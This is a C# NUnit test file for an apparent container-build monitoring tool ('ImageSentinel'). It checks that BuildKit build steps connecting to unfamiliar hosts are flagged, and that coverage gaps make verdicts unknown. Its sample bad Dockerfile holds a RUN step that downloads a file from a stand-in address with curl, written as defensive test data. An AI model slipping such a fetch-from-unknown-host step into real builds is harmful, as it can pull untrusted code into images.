using ImageSentinel.Detection.Baseline;
using ImageSentinel.Detection.Builds;
using ImageSentinel.Detection.Detectors;
using ImageSentinel.Detection.Model;
using NUnit.Framework;

namespace ImageSentinel.Tests.Detection;

[TestFixture]
public sealed class BuildKitScenarioTests
{
    private const string Download = "curl -o /x http://203.0.113.66/x";
    private const string Bad = "FROM alpine:3\nRUN echo prepared\nRUN " + Download + "\n";
    private const string Good = "FROM alpine:3\nRUN echo good\n";

    // A whole bad build by pid 200; its second instruction's step runs as pid 300 and goes out from pid 303.
    private static Scene BadBuild(Scene scene, string tag = "example/app:1") => BadStep(scene, tag)
        .Exit(303).EndBuildKitStep(300)
        .Image(1, ["base", "layer-bad"], tag, "RUN /bin/sh -c echo prepared # buildkit", $"RUN /bin/sh -c {Download} # buildkit")
        .Exit(200)
        .After(3000);

    private static Scene BadStep(Scene scene, string tag = "example/app:1") => scene
        .Client(200, "docker", "build", "-t", tag, "/ctx")
        .SnapshotDockerfile(1, Bad)
        .BuildKitStep(1, 300, Download, "layer-bad")
        .Run(302, 303, "curl", "-o", "/x", "http://203.0.113.66/x")
        .Connect(303);

    [Test]
    public void A_download_in_a_step_is_one_finding_with_step_client_tag_and_verdict()
    {
        Scene scene = BadBuild(new Scene());

        Build build = scene.OnlyBuild;
        Finding finding = scene.Findings.Single();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(finding.Detector, Is.SameAs(DetectorDefinition.NeverSeenEgress));
            Assert.That(finding.Severity, Is.EqualTo(Severity.High));
            Assert.That(finding.Step!.Index, Is.EqualTo(3));
            Assert.That(finding.Step.Total, Is.EqualTo(3));
            Assert.That(finding.Step.Instruction, Is.EqualTo("RUN " + Download));
            Assert.That(finding.Evidence, Has.Count.EqualTo(1));
            Assert.That(finding.Evidence[0].Process!.Arguments, Is.EqualTo(new[] { "curl", "-o", "/x", "http://203.0.113.66/x" }));
            Assert.That(finding.Message, Does.Contain("203.0.113.66:80/tcp").And.Contains("example/app:1").And.Contains("ann (1000"));
            Assert.That(build.Builder, Is.EqualTo(Builder.BuildKit));
            Assert.That(build.Clients.Single().Process!.Pid, Is.EqualTo(200));
            Assert.That(build.Tags, Is.EqualTo(new[] { "example/app:1" }));
            Assert.That(build.ImageId, Is.EqualTo("sha256:" + Scene.Hex(1)));
            Assert.That(build.BaseImages, Is.EqualTo(new[] { "alpine:3" }));
            Assert.That(build.Result, Is.EqualTo(BuildResult.Succeeded));
            Assert.That(build.Verdict, Is.EqualTo(Verdict.Suspicious));
            Assert.That(build.Steps.Single(static s => !s.Cached).ExitCode, Is.Zero);
        }
    }

    [TestCase(false, Verdict.Unknown)]
    [TestCase(true, Verdict.Suspicious)]
    public void A_build_that_runs_when_the_agent_stops_is_told_as_ended_and_never_clean(bool bad, Verdict expected)
    {
        Scene scene = new Scene().Client(200, "docker", "build", "-t", "example/app:1", "/ctx");
        scene = bad ? BadStep(new Scene()) : scene.SnapshotDockerfile(1, Bad).BuildKitStep(1, 300, Download, "layer-bad");
        scene.After(500);
        Build build = scene.OnlyBuild;
        bool before = build.Active;
        scene.Tell(new StoppedFact());
        scene.After(1000);

        using (Assert.EnterMultipleScope())
        {
            Assert.That((before, build.Active, build.Verdict), Is.EqualTo((true, false, expected)));
            Assert.That(build.Notes, Has.Some.Contains("the agent stopped"));
            Assert.That(scene.Core.Builds.Active, Is.Empty);
            Assert.That(scene.Core.Builds.Recent, Has.Count.EqualTo(1));
        }
    }

    [Test]
    public void The_finding_is_told_while_the_step_still_runs()
    {
        Scene scene = BadStep(new Scene());

        Assert.That(scene.Find("never-seen-egress"), Is.Not.Null);
        Assert.That(scene.OnlyBuild.Ended, Is.Null);
    }

    [Test]
    public void A_build_that_stays_at_home_is_clean_and_silent()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "-t", "example/good:1", "/ctx")
            .SnapshotDockerfile(1, Good)
            .BuildKitStep(1, 300, "echo good", "layer-good").EndBuildKitStep(300)
            .Image(2, ["base", "layer-good"], "example/good:1", "RUN /bin/sh -c echo good # buildkit")
            .Exit(200).After(3000);

        Assert.That(scene.Findings, Is.Empty);
        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Clean));
        Assert.That(scene.OnlyBuild.Result, Is.EqualTo(BuildResult.Succeeded));
    }

    [Test]
    public void Of_two_builds_at_once_only_the_one_that_went_out_is_blamed()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "-t", "example/bad:1", "/bad")
            .Client(210, "docker", "build", "-t", "example/good:1", "/good")
            .SnapshotDockerfile(1, Bad)
            .SnapshotDockerfile(2, Good)
            .BuildKitStep(1, 300, Download, "layer-bad")
            .BuildKitStep(2, 400, "echo good", "layer-good")
            .Run(302, 303, "curl", "http://203.0.113.66/x")
            .Connect(303)
            .EndBuildKitStep(400)
            .Image(2, ["base", "layer-good"], "example/good:1", "RUN /bin/sh -c echo good # buildkit")
            .Exit(210)
            .Exit(303).EndBuildKitStep(300)
            .Image(1, ["base", "layer-bad"], "example/bad:1", $"RUN /bin/sh -c {Download} # buildkit")
            .Exit(200).After(3000);

        Assert.That(scene.Builds, Has.Count.EqualTo(2));
        Build bad = scene.Builds.Single(static b => b.Tags.Contains("example/bad:1"));
        Build good = scene.Builds.Single(static b => b.Tags.Contains("example/good:1"));
        using (Assert.EnterMultipleScope())
        {
            Assert.That(bad.Verdict, Is.EqualTo(Verdict.Suspicious));
            Assert.That(good.Verdict, Is.EqualTo(Verdict.Clean));
            Assert.That(good.Findings, Is.Empty);
            Assert.That(bad.Clients[0].Process!.Pid, Is.EqualTo(200));
            Assert.That(good.Clients[0].Process!.Pid, Is.EqualTo(210));
        }
    }

    [Test]
    public void An_orphan_that_connects_after_its_parents_ended_is_still_the_steps()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "-t", "example/app:1", "/ctx")
            .SnapshotDockerfile(1, "FROM alpine\nRUN ./orphan\n")
            .BuildKitStep(1, 300, "./orphan")
            .Fork(302, 303).Fork(303, 304).Exit(303)
            .Exec(304, 1, 0, "/bin/orphan")
            .After(500)
            .Connect(304, exe: "/bin/orphan");

        Assert.That(scene.Find("never-seen-egress")!.Step!.Id, Is.EqualTo(Scene.StepId(1)));
    }

    [Test]
    public void A_process_that_is_gone_before_its_connect_is_read_is_still_known()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, "FROM alpine\nRUN ./flash\n")
            .BuildKitStep(1, 300, "./flash")
            .Run(302, 303, "flash")
            .Exit(303).EndBuildKitStep(300)
            .After(10)
            .Connect(303, calledEarlier: 14 * Stamp.Millisecond, exe: "/usr/bin/flash");

        Finding finding = scene.Find("never-seen-egress")!;
        Assert.That(finding.Evidence[0].Process!.Arguments, Is.EqualTo(new[] { "flash" }));
        Assert.That(finding.Step!.Id, Is.EqualTo(Scene.StepId(1)));
    }

    [Test]
    public void The_exec_record_may_come_after_the_connect_of_a_step_process()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Bad)
            .BuildKitStep(1, 300, Download)
            .Fork(302, 303)
            .Connect(303)
            .Exec(303, 302, 0, "curl", "http://203.0.113.66/x");

        Assert.That(scene.Find("never-seen-egress"), Is.Not.Null);
    }

    [Test]
    public void A_step_that_calls_itself_runc_stays_the_steps()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, "FROM alpine\nRUN ./trick\n")
            .BuildKitStep(1, 300, "./trick")
            .Run(302, 303, "runc", "run", "--bundle", "/var/lib/docker/buildkit/executor/" + Scene.StepId(9), "x")
            .Run(303, 304, "containerd-shim-runc-v2", "-namespace", "moby", "-id", Scene.Hex(9), "-address", "/x")
            .Run(304, 305, "curl", "x")
            .Connect(305);

        Assert.That(scene.Builds, Has.Count.EqualTo(1));
        Assert.That(scene.Find("never-seen-egress")!.Step!.Id, Is.EqualTo(Scene.StepId(1)));
    }

    [Test]
    public void A_container_and_a_host_process_beside_a_build_are_not_blamed()
    {
        Scene scene = new Scene()
            .Run(1, 500, "containerd-shim-runc-v2", "-namespace", "moby", "-id", Scene.Hex(7), "-address", "/x")
            .Tell(new ContainerFact(0, Scene.Hex(7), "nginx", "sha256:" + Scene.Hex(8), ["nginx"], "web", false, "/log", "json-file", "default", false, "", "", [], "", true, false, null))
            .Run(500, 501, "runc", "create", "--bundle", "/run/docker/moby/" + Scene.Hex(7), Scene.Hex(7))
            .Run(501, 502, "nginx")
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Good)
            .BuildKitStep(1, 300, "echo good")
            .Connect(502, "198.51.100.1", 443)
            .Run(Scene.Shell, 600, "curl", "x")
            .Connect(600, "198.51.100.2", 443)
            .EndBuildKitStep(300).Exit(200).After(5000);

        using (Assert.EnterMultipleScope())
        {
            Assert.That(scene.Findings, Is.Empty);
            Assert.That(scene.OnlyBuild.Steps.Single().Egress, Is.Empty);
            Assert.That(scene.Baseline.Seen.All().Where(static s => s.OnTrial).Select(static s => s.Destination), Is.EqualTo(new[] { Scene.To("198.51.100.1", 443) }));
            Assert.That(scene.Baseline.Judge(Scene.To("198.51.100.2", 443), scene.Now.Time).Novelty, Is.EqualTo(Novelty.Known));
        }
    }

    [TestCase(12)]
    [TestCase(-1)]
    public void What_was_lost_during_a_build_makes_it_unknown_and_says_so(long count)
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Good)
            .BuildKitStep(1, 300, "echo good")
            .Lost(count)
            .EndBuildKitStep(300).Exit(200).After(3000);

        Finding finding = scene.Findings.Single();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Unknown));
            Assert.That(scene.OnlyBuild.Lost, Is.EqualTo(count));
            Assert.That(finding.Detector, Is.SameAs(DetectorDefinition.CoverageGap));
            Assert.That(finding.Severity, Is.EqualTo(Severity.Medium));
        }
    }

    [Test]
    public void A_loss_noticed_just_after_a_build_may_have_happened_in_it()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Good)
            .BuildKitStep(1, 300, "echo good").EndBuildKitStep(300)
            .Exit(200).After(3000).Lost(5);

        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Unknown));
    }

    [Test]
    public void What_was_lost_long_after_a_build_changes_nothing_about_it()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Good)
            .BuildKitStep(1, 300, "echo good").EndBuildKitStep(300)
            .Exit(200).After(20_000).Lost(5);

        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Clean));
    }

    [TestCase("audit")]
    [TestCase("processes")]
    public void Without_a_sensor_that_is_needed_no_build_is_called_clean(string sensor)
    {
        Scene scene = new Scene()
            .Sensor(sensor, "off", "not permitted")
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Good)
            .BuildKitStep(1, 300, "echo good").EndBuildKitStep(300)
            .Exit(200).After(3000);

        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Unknown));
    }

    [Test]
    public void A_sensor_that_fails_in_the_middle_of_a_build_is_told_as_a_gap()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Good)
            .BuildKitStep(1, 300, "echo good")
            .Sensor("audit", "off", "rules removed")
            .EndBuildKitStep(300).Exit(200).After(3000);

        Assert.That(scene.Find("coverage-gap"), Is.Not.Null);
        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Unknown));
    }

    [Test]
    public void A_build_that_ran_before_the_agent_was_ready_is_unknown()
    {
        Scene scene = new Scene(ready: false)
            .BuildKitStep(1, 300, "echo good")
            .Tell(new ReadyFact(false, false, ""))
            .EndBuildKitStep(300).After(35_000);

        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Unknown));
    }

    [Test]
    public void Learning_tells_a_new_destination_as_information_and_knows_it_the_next_time()
    {
        var mode = new BaselineMode(true, DateTimeOffset.UnixEpoch, DateTimeOffset.MaxValue);
        Scene scene = BadBuild(new Scene(mode: mode));

        Assert.That(scene.Findings.Single().Severity, Is.EqualTo(Severity.Informational));
        Assert.That(scene.OnlyBuild.Steps[0].Egress.Single().Novelty, Is.EqualTo(Novelty.Learning));
        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Clean));
        Assert.That(scene.Baseline.Judge(Scene.To(Scene.Evil), scene.Now.Time).Novelty, Is.EqualTo(Novelty.Known));
    }

    [Test]
    public void While_learning_only_trusted_clients_teach_when_somebody_is_trusted()
    {
        var policy = CorePolicy.Default with { TrustedClients = [new TrustedClient("ci", null, "", null, "", "")] };
        var mode = new BaselineMode(true, DateTimeOffset.UnixEpoch, DateTimeOffset.MaxValue);
        Scene scene = BadBuild(new Scene(policy, mode));

        Assert.That(scene.Baseline.Judge(Scene.To(Scene.Evil), scene.Now.Time).Novelty, Is.EqualTo(Novelty.Learning));
    }

    [Test]
    public void A_known_address_on_a_new_port_is_medium()
    {
        var scene = new Scene();
        scene.Baseline.Learn(Scene.To(Scene.Evil, 443), scene.Now);
        BadBuild(scene);

        Assert.That(scene.Findings.Single().Severity, Is.EqualTo(Severity.Medium));
    }

    [Test]
    public void A_worse_destination_after_more_evidence_than_is_kept_still_makes_the_message()
    {
        var scene = new Scene();
        scene.Baseline.Learn(Scene.To("198.51.100.9", 1), scene.Now);
        scene.Client(200, "docker", "build", "/ctx").SnapshotDockerfile(1, Bad);
        scene.BuildKitStep(1, 300, "echo prepared").Run(302, 303, "scan");
        for (ushort port = 2; port <= Finding.MaximumEvidence + 10; port++)
        {
            scene.Connect(303, "198.51.100.9", port);
        }

        scene.Exit(303).EndBuildKitStep(300)
            .BuildKitStep(2, 400, Download).Run(402, 403, "curl", "x").Connect(403);

        Finding finding = scene.Find("never-seen-egress")!;
        Assert.That(finding.Severity, Is.EqualTo(Severity.High));
        Assert.That(finding.Message, Does.Contain(Scene.Evil));
    }

    [Test]
    public void A_step_that_fails_leaves_no_image_and_its_finding_stands()
    {
        Scene scene = BadStep(new Scene()).Exit(303).EndBuildKitStep(300, 7).Exit(200, 1).After(3000);

        Assert.That(scene.OnlyBuild.Result, Is.EqualTo(BuildResult.Failed));
        Assert.That(scene.OnlyBuild.Steps[0].ExitCode, Is.EqualTo(7));
        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Suspicious));
    }

    [Test]
    public void An_address_set_on_a_datagram_socket_counts_unless_the_flows_say_that_nothing_left()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Bad)
            .BuildKitStep(1, 300, Download)
            .Connect(302, protocol: EgressProtocol.Udp, addressOnly: true);
        Assert.That(scene.Findings, Is.Empty);

        scene.After(3000);

        Assert.That(scene.Find("never-seen-egress"), Is.Not.Null);
    }

    [Test]
    public void Noise_is_no_egress()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "/ctx")
            .SnapshotDockerfile(1, Bad)
            .BuildKitStep(1, 300, Download)
            .Connect(302, "127.0.0.1", 80).Connect(302, "::1", 80).Connect(302, "224.0.0.1", 80).Connect(302, "198.18.0.1", 22)
            .Connect(302, "203.0.113.53", 53, EgressProtocol.Udp);

        Assert.That(scene.Findings, Is.Empty);
    }

    [Test]
    public void The_same_events_give_the_same_ids()
    {
        Scene first = BadBuild(new Scene());
        Scene second = BadBuild(new Scene());

        Assert.That(second.OnlyBuild.Id, Is.EqualTo(first.OnlyBuild.Id));
        Assert.That(second.Findings[0].Uid, Is.EqualTo(first.Findings[0].Uid));
        Assert.That(second.Findings[0].Message, Is.EqualTo(first.Findings[0].Message));
    }
}
